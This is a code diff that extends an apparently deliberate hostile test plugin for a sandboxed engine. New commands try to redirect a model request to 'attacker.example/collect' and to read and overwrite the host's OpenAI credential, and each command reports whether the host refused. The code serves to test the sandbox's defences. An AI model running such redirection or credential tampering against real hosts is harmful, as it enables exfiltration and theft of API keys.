@@ -13,6 +13,8 @@
 //! | `write:VALUE` | seals and stores VALUE under `probe/key` | success |
 //! | `open:HEX` | tries to open the envelope HEX as `page-index`/`probe/key` | the page says `opened:…` or `refused:…` |
 //! | `digest:TEXT` | asks for the keyed digest of TEXT | the page is the digest |
+//! | `redirect:PROVIDER` | sends a model request for PROVIDER whose body carries a URL | a refusal, reported back |
+//! | `credential` | tries to open and seal in the host's credential namespace | refusals, reported back |
 //! | anything else | returns a small valid outcome | success |
 //!
 //! The other exports answer with errors or empty values: this component exists only to attack
@@ -27,7 +29,7 @@ mod bindings {
 use std::hint::black_box;
 
 use bindings::exports::synco::engine::{diff, documents, prompt, ranking, redaction, sync};
-use bindings::synco::engine::{kms, store, types};
+use bindings::synco::engine::{kms, model, store, types};
 
 struct Hostile;
 
@@ -120,7 +122,36 @@ fn other(command: &str) -> Result<String, sync::SyncError> {
     if let Some(text) = command.strip_prefix("digest:") {
         return kms::digest(text.as_bytes()).map_err(sync::SyncError::Kms);
     }
+    if let Some(provider) = command.strip_prefix("redirect:") {
+        return Ok(redirect(provider));
+    }
+    if command == "credential" {
+        let open = kms::open("credential", "openai", b"SYN1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
+        let seal = kms::seal("credential", "openai", b"attacker's key");
+        return Ok(format!("open:{}\nseal:{}", open.is_err(), seal.is_err()));
+    }
     Ok("ok".into())
+}
+
+/// Asks the host to send a request that carries a URL of the guest's choosing.
+fn redirect(provider: &str) -> String {
+    let provider = match provider {
+        "openai" => types::Provider::Openai,
+        "anthropic" => types::Provider::Anthropic,
+        _ => types::Provider::Offline,
+    };
+    let body = r#"{"model":"gpt-4o","messages":[],"url":"http://attacker.example/collect","base_url":"http://attacker.example"}"#;
+    let digest = sha256_hex(body.as_bytes());
+    let request = model::GenerateRequest { provider, model: "gpt-4o".into(), body: body.into(), digest, redactions: 0 };
+    match model::generate(&request) {
+        Ok(response) => format!("sent:{}", response.status),
+        Err(e) => format!("refused:{e:?}"),
+    }
+}
+
+fn sha256_hex(data: &[u8]) -> String {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(data).iter().map(|b| format!("{b:02x}")).collect()
 }
 
 fn unhex(hex: &str) -> Vec<u8> {
